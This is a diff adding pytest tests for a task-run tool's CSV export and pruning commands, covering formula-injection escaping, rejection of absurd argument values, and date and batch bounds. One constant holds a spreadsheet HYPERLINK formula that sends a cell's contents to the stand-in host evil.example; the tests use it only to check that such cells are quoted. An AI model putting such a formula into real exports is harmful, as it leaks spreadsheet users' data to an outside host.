@@ -139,6 +139,47 @@ def test_output_file(log, tmp_path):
         run("exportruns", "--output", str(tmp_path / "missing" / "runs.csv"))
 
 
+FORMULA = '1+1,HYPERLINK("http://evil.example/?x="&A1,"details")'
+
+
+def csv_row(*args: str) -> dict[str, str]:
+    """The first run of a CSV export, by column."""
+    rows = list(csv.reader(io.StringIO(run("exportruns", *args))))
+    return dict(zip(COLUMNS, rows[1], strict=True))
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_run_get_a_quote_before_them(start, tmp_path):
+    formula = start + FORMULA
+    add(formula, RunStatus.FAIL, days_ago(1), message=formula, exc_text=formula)
+    row = csv_row()
+    assert row["task_name"] == row["message"] == row["exc_text"] == "'" + formula
+    assert row["status"] == "fail" and row["runtime"] == "60.0"
+    path = tmp_path / "runs.csv"
+    run("exportruns", "--output", str(path))
+    assert list(csv.reader(path.open(newline="")))[1][-1] == "'" + formula
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_raw_csv_writes_cells_as_stored(start):
+    formula = start + FORMULA
+    add(formula, RunStatus.FAIL, days_ago(1), message=formula, exc_text=formula)
+    row = csv_row("--raw-csv")
+    assert row["task_name"] == row["message"] == row["exc_text"] == formula
+
+
+def test_csv_escaping_leaves_other_cells_and_json_lines_alone():
+    add("etl", RunStatus.FAIL, days_ago(1), message="ValueError: a=1, b=-2 @home", exc_text="'")
+    row = csv_row()
+    assert (row["message"], row["exc_text"]) == ("ValueError: a=1, b=-2 @home", "'")
+    add("=etl", RunStatus.FAIL, days_ago(0.5), message="=1+1")
+    objects = [json.loads(line) for line in run("exportruns", "--format", "jsonl").splitlines()]
+    assert [(o["task_name"], o["message"]) for o in objects] == [
+        ("etl", "ValueError: a=1, b=-2 @home"),
+        ("=etl", "=1+1"),
+    ]
+
+
 def test_empty_log_exports_a_header_only():
     assert run("exportruns") == ",".join(COLUMNS) + "\n"
     assert run("exportruns", "--format", "jsonl") == ""
@@ -154,6 +195,46 @@ def test_export_errors(log, settings):
         run("exportruns", "--format", "xml")
     with pytest.raises(CommandError, match="is not an ISO 8601 date"):
         run("exportruns", "--since", "last week")
+    with pytest.raises(CommandError, match="--raw-csv applies to --format csv only"):
+        run("exportruns", "--format", "jsonl", "--raw-csv")
+
+
+@pytest.mark.parametrize(
+    ("args", "message"),
+    [
+        (("--since", "0001-01-01T00:00+05:00"), r"in the year 1; give a date from 1970 to 9000"),
+        (("--since", "9999-12-31T23:59-05:00"), r"in the year 9999; give a date from 1970"),
+        (("--since", "1969-12-31"), r"in the year 1969"),
+        (("--chunk-size", "99999999999999999999"), r"must be above 0 and at most 10000"),
+        (("--chunk-size", "0"), r"must be above 0 and at most 10000"),
+        (("--task", "etl\udcff"), r"is not UTF-8 text: character 4 stands for a byte"),
+        (("--task", "etl\x00"), r"contains a NUL character; give a task name without one"),
+        (("--task", "x" * 201), r"has 201 characters; a task name has at most 200"),
+        (("--output", "runs\x00.csv"), r"contains a NUL character, which no file name can hold"),
+        (("--output", ""), r"The file name is empty"),
+        (("--output", "x" * 4097), r"has 4097 characters; a file path has at most 4096"),
+        (("--output", "x" * 300), r"Cannot write the export to 'xxx.*…xxx': File name too long"),
+        (("--output", "\ud800.csv"), r"cannot be encoded as a file name"),
+        (("--format=--",), r"--format needs a value; '--' is not one"),
+    ],
+)
+def test_export_refuses_absurd_values_in_one_line(args, message):
+    with pytest.raises(CommandError, match=message) as info:
+        run("exportruns", *args)
+    assert "\n" not in str(info.value)
+
+
+def test_a_since_in_an_unknown_time_zone_is_one_line(settings):
+    settings.ROCKET_TIME_ZONE = "Mars/Olympus"
+    with pytest.raises(CommandError, match=r"ROCKET_TIME_ZONE 'Mars/Olympus' is not a known"):
+        run("exportruns", "--since", "2026-03-02")
+
+
+def test_export_takes_the_bounds_themselves(log, tmp_path):
+    run("exportruns", "--since", "1970-01-01T00:00+23:59", "--chunk-size", "10000")
+    run("exportruns", "--since", "9000-12-31T23:59:59-23:59", "--chunk-size", "1")
+    run("exportruns", "--task", "etl", "--output", str(tmp_path / "r\udcff.csv"))
+    assert (tmp_path / "r\udcff.csv").exists()  # a file name that is not UTF-8 is fine
 
 
 def bulk_runs(count: int) -> None:
@@ -380,8 +461,33 @@ def test_apply_retention(settings):
         (("--older-than", "0"), "'0' is zero"),
         (("--older-than", "-3 days"), "--older-than"),
         (("--older-than", "1 day", "--batch-size", "0"), "must be above 0"),
+        (("--older-than", "99999999 days"), "'99999999 days' is longer than 100 years"),
+        (("--older-than", "9" * 30 + " weeks"), "is longer than 100 years"),
+        (("--older-than", "36501 days"), "is longer than 100 years"),
+        (("--older-than", "1 day", "--batch-size", "99999999999999999999"), "at most 10000"),
+        (("--older-than", "1 day", "--batch-size", "10001"), "at most 10000"),
+        (("--older-than=--",), "--older-than needs a value"),
     ],
 )
 def test_prune_errors(args, message):
     with pytest.raises(CommandError, match=message):
         run("pruneruns", *args)
+
+
+def test_prune_takes_the_bounds_themselves():
+    add("etl", RunStatus.SUCCESS, really_ago(3))
+    add("etl", RunStatus.SUCCESS, really_ago(2))
+    assert run("pruneruns", "--older-than", "36500 days", "--batch-size", "10000").startswith(
+        "Deleted 0 run(s)"
+    )
+    assert run("pruneruns", "--older-than", "1 day", "--batch-size", "1").startswith(
+        "Deleted 1 run(s)"
+    )
+
+
+def test_an_age_reaching_before_year_1_prunes_nothing():
+    add("etl", RunStatus.SUCCESS, days_ago(3))
+    add("etl", RunStatus.SUCCESS, days_ago(2))
+    result = prune_runs(timedelta(days=999_999), now=NOW)
+    assert (result.deleted, result.cutoff) == (0, datetime.min.replace(tzinfo=UTC))
+    assert TaskRun.objects.count() == 2
